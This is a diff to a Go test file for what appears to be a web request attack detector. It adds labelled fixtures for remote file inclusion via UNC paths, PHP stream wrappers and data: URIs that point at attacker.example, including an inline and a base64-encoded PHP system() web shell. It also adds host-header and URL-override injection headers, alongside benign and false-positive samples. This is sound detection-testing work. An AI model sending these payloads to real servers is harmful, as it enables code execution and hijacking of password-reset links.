@@ -6,6 +6,7 @@ import (
 	"fmt"
 	"net/url"
 	"os"
+	"strconv"
 	"strings"
 	"testing"
 )
@@ -399,6 +400,32 @@ func captures() []toolCapture {
 	benign("GET", "/account", "", [2]string{"Cookie", "sid=AbC+dEf%2Fg%3D%3D; q=blue+shoes+%26+socks; _ga=GA1.2.3"})
 	benign("GET", "/", "", [2]string{"Referer", "https://shop.example/search?q=c%2B%2B+books&page=2"})
 
+	// Remote and wrapped file references in a file parameter, in every
+	// place an application reads one from; host-header injection and
+	// URL override (remoteref.go).
+	const jsonType = "application/json"
+	for _, ref := range []string{`\\files.attacker.example\share\x.php`, `\\?\UNC\attacker.example\s\a.txt`, `\\attacker.example@SSL\DavWWWRoot\x.php`, "file://attacker.example/share/x", "//attacker.example/inc/shell.php", "php://filter/convert.base64-encode/resource=index.php", "phar:///tmp/uploads/avatar.jpg/x", "compress.zlib://index.php", "data:text/plain,<?php system('id');?>", "data:image/png;base64,PD9waHAgc3lzdGVtKCRfR0VUWzBdKTs/Pg=="} {
+		q := url.QueryEscape(ref)
+		other("GET", "/download?file="+q, "")
+		other("POST", "/api/export", `{"template":{"path":`+strconv.Quote(ref)+`}}`, [2]string{"Content-Type", jsonType})
+		other("GET", "/account", "", [2]string{"Cookie", "session=abc; file=" + q})
+		other("GET", "/", "", [2]string{"X-File", ref})
+		other("GET", "/download/"+url.PathEscape(ref), "")
+	}
+	other("GET", "/view/php://filter/resource=index.php", "")
+	other("GET", "/", "", [2]string{"X-Forwarded-Host", "attacker.example/reset"})
+	other("GET", "/", "", [2]string{"X-Forwarded-Host", "http://attacker.example"})
+	other("GET", "/", "", [2]string{"Forwarded", "for=203.0.113.9;host=attacker.example/x"})
+	other("GET", "/", "", [2]string{"X-Original-URL", "/admin/users"})
+	other("GET", "/public", "", [2]string{"X-Rewrite-URL", "/admin/config"})
+	other("GET", "/", "", [2]string{"X-Forwarded-Prefix", "http://attacker.example/"})
+	benign("GET", "/download?file=reports%2F2026%2Fq4.pdf", "")
+	benign("POST", "/api/profile", `{"name":"Ana","cdn":"//cdn.example.net/img/a.png","home":"//example.org/index.php","avatar":{"src":"//cdn.example.net/u/7.png"}}`, [2]string{"Content-Type", jsonType})
+	benign("POST", "/api/notes", `{"text":"the report is on \\\\fileserver\\reports, ask IT for access"}`, [2]string{"Content-Type", jsonType})
+	benign("GET", "/", "", [2]string{"X-Forwarded-Host", "app.example:8443"}, [2]string{"X-Forwarded-Proto", "https"}, [2]string{"X-Forwarded-Port", "443"}, [2]string{"X-Forwarded-For", "203.0.113.7, 10.0.0.2"})
+	benign("GET", "/api/items?page=2", "", [2]string{"X-Original-URL", "/api/items?page=2"}, [2]string{"X-Forwarded-Prefix", "/shop"})
+	benign("GET", "/", "", [2]string{"Forwarded", `for=203.0.113.7;proto=https;host="app.example"`})
+
 	for i := range cs {
 		cs[i].category = "captures/" + cs[i].category
 	}
@@ -485,6 +512,16 @@ var falsePositiveShapes = []string{
 	"and =XY=Z9QF_=",
 	"sleep well, see you tomorrow",
 	"The system() call in C starts a shell",
+	// Prose with quotes, dashes, lists and searches beside SQL and shell
+	// words.
+	"O'Reilly's 'best of' list -- 2nd ed.",
+	"He said 'and' -- twice",
+	"\"O'Neil\" OR \"ONeil\"",
+	"Where's the 'or' in 'for'?",
+	"1 or 2 or 3 items per order",
+	"shop & go, then eat | sleep (see attached)",
+	"id;name;note\n1;O'Brien;cat & dog\n2;Smith;a | b",
+	"title:\"select\" author:\"o'neil\"",
 	// Documents showing code: a shell script in a fenced block, commands
 	// in code spans of a sentence, a saved query.
 	"```bash\nset -euo pipefail\nfor d in */; do du -sh \"$d\"; done\n```\n\nDoes this look right?",
